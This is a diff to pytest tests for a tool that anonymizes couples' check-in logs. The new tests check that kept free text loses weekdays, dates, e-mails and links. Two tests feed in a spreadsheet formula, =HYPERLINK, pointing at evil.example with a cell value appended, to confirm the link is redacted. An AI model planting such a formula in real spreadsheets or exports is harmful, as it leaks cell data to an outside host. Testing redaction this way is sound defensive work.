@@ -245,7 +245,9 @@ def test_free_text_offsets_and_undeclared_columns_are_removed():
 
 def test_keep_text_keeps_the_answers():
     anon, _ = _anonymize(_logs(), keep_text=True)
-    assert (anon.checkins["need"] == TEXTS["need"]).all()
+    # but for the weekday, which would give the date shift modulo 7 (reader7 13)
+    assert TEXTS["need"] == "Call Dr Moreau on Tuesdays"
+    assert (anon.checkins["need"] == "Call Dr Moreau on [day]").all()
 
 
 @pytest.mark.parametrize("fmt", ["csv", "parquet"])
@@ -266,7 +268,11 @@ def test_kept_text_loses_its_dates_and_the_couples_own_ids(tmp_path, fmt):
     assert m is not None, row["need"]
     own = anon.checkins.loc[anon.checkins["couple_id"] == row["couple_id"], "partner"]
     assert {m[1], m[2]} == set(own) and m[3] == row["couple_id"]
-    assert "dates and ids inside the kept free text" in report.to_markdown()
+    assert (
+        # 36 check-ins, each with one date and three ids (two partners' and the couple's)
+        "checkins: inside the kept free text of 36 cells, replaced: 36 dates (by [date]), "
+        "108 ids (by their pseudonyms)"
+    ) in report.to_markdown()
 
 
 def test_kept_text_replaces_ids_as_whole_words_only():
@@ -540,6 +546,14 @@ def test_a_quasi_identifier_holding_a_short_id_inside_a_word_is_kept():
         ("the 4th of July and March 3rd, 2025", "the [date] and [date]"),
         ("write to ann.lee+x@mail.example.org now", "write to [email] now"),
         ("see https://example.org/ann?x=1 or www.x.org", "see [link] or [link]"),
+        # reader7 12: the address ends at a quote, the rest of the cell stays
+        ('=HYPERLINK("http://evil.example/?"&A1,"click")', '=HYPERLINK("[link]?"&A1,"click")'),
+        ("(see https://a.example/x), then www.b.example.", "(see [link]), then [link]."),
+        # reader7 13: weekday names and days in words undo the shift
+        ("Sam said Tuesday 2pm; the 12th; twelfth of March", "Sam said [day] 2pm; [date]; [date]"),
+        ("March the twelfth, the twenty-first of June", "[date], [date]"),
+        ("Mondays, Sat. and FRIDAY's talk", "[day], [day] and [day] talk"),
+        ("we sat down, wed in May, for the 3rd time", "we sat down, wed in May, for the 3rd time"),
         ("call +44 20 7946 0958", "call [number]"),
         ("slept 1.5 hours, score 3.5", "slept 1.5 hours, score 3.5"),
     ],
@@ -550,6 +564,26 @@ def test_kept_text_loses_numeric_dates_addresses_and_numbers(text, expected):
                 "date": "2025-01-06", "connection": 5, "need": text}]))  # fmt: skip
     anon, _ = anonymize(logs, key=KEY, keep_text=True, k=1)
     assert anon.checkins["need"].iloc[0] == expected
+
+
+def test_the_report_names_what_the_kept_text_lost(tmp_path):
+    """reader7 12: a web address was reported as "dates and ids ... (replaced by [date] ...)"."""
+    logs = Logs(checkins=as_table("checkins", [
+        {"couple_id": "c1", "partner": "A", "date": "2025-01-06", "connection": 5,
+         "need": '=HYPERLINK("http://evil.example/?"&A1,"click")'},
+        {"couple_id": "c1", "partner": "A", "date": "2025-01-13", "connection": 5,
+         "need": "Tuesday, mail me at a@b.example"}]))  # fmt: skip
+    anon, report = anonymize(logs, key=KEY, keep_text=True, k=1)
+    text = report.to_markdown()
+    assert (
+        "checkins: inside the kept free text of 2 cells, replaced: 1 e-mail address (by "
+        "[email]), 1 web address (by [link]), 1 weekday name (by [day])"
+    ) in text
+    assert "dates and ids" not in text
+    assert anon.checkins["need"].tolist() == [
+        '=HYPERLINK("[link]?"&A1,"click")',
+        "[day], mail me at [email]",
+    ]
 
 
 def test_an_interrupted_export_leaves_no_partial_folder(tmp_path, monkeypatch):
